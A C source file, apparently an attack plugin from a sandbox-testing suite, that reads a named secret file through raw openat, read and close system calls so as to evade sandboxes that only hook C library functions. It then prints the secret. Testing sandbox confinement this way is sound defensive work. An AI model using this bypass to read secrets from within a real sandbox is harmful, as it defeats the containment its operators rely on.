/*
 * sys_raw_syscall_asm — opens and reads the secret with the `syscall`
 * instruction directly (openat 257, read 0, close 3), never calling the C
 * library. A sandbox that interposes on library functions (LD_PRELOAD hooks,
 * patched wrappers) instead of confining the process in the kernel misses every
 * raw system call.
 */
#include "attack.h"

enum { NR_READ = 0, NR_CLOSE = 3, NR_OPENAT = 257 };

static sbx_status attack(const atk_input *in, atk_out *out)
{
    static char buf[4096];
    char secret[4096];
    if (!atk_param(in, "secret_path", secret, sizeof secret)) {
        return SBX_ERR_INVALID_ARGUMENT;
    }
    long fd = atk_syscall6(NR_OPENAT, AT_FDCWD, (long)(uintptr_t)secret, O_RDONLY, 0, 0, 0);
    if (fd < 0) {
        atk_failed(out, "raw openat", (int)-fd);
        return SBX_ERR_INTERNAL;
    }
    long got = atk_syscall6(NR_READ, fd, (long)(uintptr_t)buf, sizeof buf, 0, 0, 0);
    atk_syscall6(NR_CLOSE, fd, 0, 0, 0, 0, 0);
    if (got <= 0) {
        atk_failed(out, "raw read", got < 0 ? (int)-got : EIO);
        return SBX_ERR_INTERNAL;
    }
    atk_put(out, "secret via raw syscall: ", 24);
    atk_put(out, buf, (size_t)got);
    atk_put(out, "\n", 1);
    return SBX_OK;
}

ATK_INVOKE_PLUGIN(attack)
